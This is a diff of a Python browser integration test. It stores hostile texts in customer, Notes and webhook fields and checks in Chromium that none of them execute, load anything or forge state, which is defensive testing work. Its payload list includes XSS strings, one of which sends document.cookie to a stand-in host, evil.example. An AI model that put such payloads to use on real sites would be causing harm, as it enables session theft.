@@ -1,4 +1,4 @@
-"""500 hostile texts as names, Notes and webhook fields, looked at in a real Chromium."""
+"""Hostile texts as names, Notes and webhook fields, looked at in a real Chromium."""
 
 import csv
 import io
@@ -18,7 +18,7 @@ from sandbox.running import serving_in_thread
 from tests.chromium import chromium
 from tests.integration.test_console import OURS, FakeOutside
 
-NUMBER = 500
+MANY = 500
 FIELDS = ("GivenName", "FamilyName", "CompanyName", "Notes")
 SCRIPTS = ("alert(1)", "confirm`1`", "fetch('//evil.example/'+document.cookie)", "print()")
 MARKUP = (
@@ -89,7 +89,18 @@ def payloads() -> list[str]:
     # Varied until there are enough: in capitals, twice, behind words, before them.
     ways = (str, str.upper, lambda text: text * 2, lambda text: f"Ann {text}", lambda t: f"{t} Ann")
     varied = dict.fromkeys(way(text) for way in ways for text in made)
-    return list(itertools.islice(varied, NUMBER))
+    return list(itertools.islice(varied, MANY))
+
+
+def one_of_each_kind() -> list[str]:
+    """Each way to write markup, a template or a formula once; every other text."""
+    return [
+        *(text.format(SCRIPTS[0]) for text in MARKUP),
+        *(text.format(INSIDE[0]) for text in TEMPLATES),
+        *(sign + CALLS[0] for sign in FORMULAS),
+        *SQL,
+        *ODD,
+    ]
 
 
 @pytest.fixture
@@ -98,9 +109,12 @@ def page() -> Iterator[Page]:
         yield browser.new_page()
 
 
-def test_500_hostile_texts_open_nothing_load_nothing_and_forge_nothing(company, page, capsys):
-    texts = payloads()
-    assert len(texts) == NUMBER
+@pytest.mark.parametrize(
+    "texts",
+    [one_of_each_kind(), pytest.param(payloads(), marks=pytest.mark.endurance)],
+    ids=["one of each kind", "500"],
+)
+def test_hostile_texts_open_nothing_load_nothing_and_forge_nothing(company, page, capsys, texts):
     ids = fill(company, texts)
     trouble = watched(page)
     with serving_in_thread({"console": console(company)}) as urls:
@@ -113,7 +127,7 @@ def test_500_hostile_texts_open_nothing_load_nothing_and_forge_nothing(company, 
             page.goto(f"{base}/webhooks/{number}")
             page.goto(f"{base}/audit/{number}")
         assert page.evaluate("typeof window.forged") == "undefined"
-        for text in texts[:: NUMBER // 60]:
+        for text in texts[:: max(1, len(texts) // 60)]:
             found = requests.post(f"{base}/customers", {"wanted": text}, headers=OURS, timeout=60)
             assert found.status_code == 200, text
         assert trouble == []
@@ -129,7 +143,7 @@ def test_500_hostile_texts_open_nothing_load_nothing_and_forge_nothing(company, 
 
 
 def fill(company, texts: list[str]) -> list[str]:
-    """Customers that carry all texts, their contacts, webhooks of them, and a row that failed."""
+    """Customers that carry all texts, four each, their contacts, webhooks of them, and a row that failed."""
     ids = []
     for number, some in enumerate(_fours(texts)):
         given = {field: text[:99] for field, text in zip(FIELDS, some, strict=True)}
@@ -145,7 +159,7 @@ def fill(company, texts: list[str]) -> list[str]:
 
 
 def _fours(texts: list[str]) -> Iterator[tuple[str, ...]]:
-    return zip(*[iter(texts)] * 4, strict=True)
+    return itertools.zip_longest(*[iter(texts)] * 4, fillvalue="")
 
 
 def watched(page: Page) -> list[str]:
